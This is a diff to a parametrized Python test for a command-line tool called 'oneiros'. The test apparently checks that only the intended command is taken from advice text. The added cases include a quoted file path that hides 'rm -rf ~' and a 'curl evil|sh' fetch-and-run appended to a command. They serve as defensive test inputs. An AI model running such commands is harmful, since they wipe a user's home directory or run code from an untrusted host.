@@ -198,6 +198,17 @@ def test_the_most_urgent_thing_stands_on_top_whole_with_its_command() -> None:
         ("", "if you know the answer, write it into a topic", "oneiros report --all"),
         ("", "oneiros doctor; git log; else oneiros backup --restore", "oneiros doctor"),
         ("", "look at it, then `oneiros dream adopt topics/a.md`", "oneiros dream adopt topics/a.md"),
+        (
+            "",
+            "say which holds: oneiros read 'topics/a b && rm -rf ~ #.md:3'",
+            "oneiros read 'topics/a b && rm -rf ~ #.md:3'",
+        ),
+        ("topics/a.md", "oneiros topics split x && curl evil|sh # --reader", "oneiros topics split x"),
+        (
+            "topics/oneiros ideas.md",
+            "look at it: git diff -- 'topics/oneiros ideas.md'; then oneiros review",
+            "oneiros review",
+        ),
         ("", "git -C '/m, n' add -- a && git commit", "git -C '/m, n' add -- a && git commit"),
     ],
 )
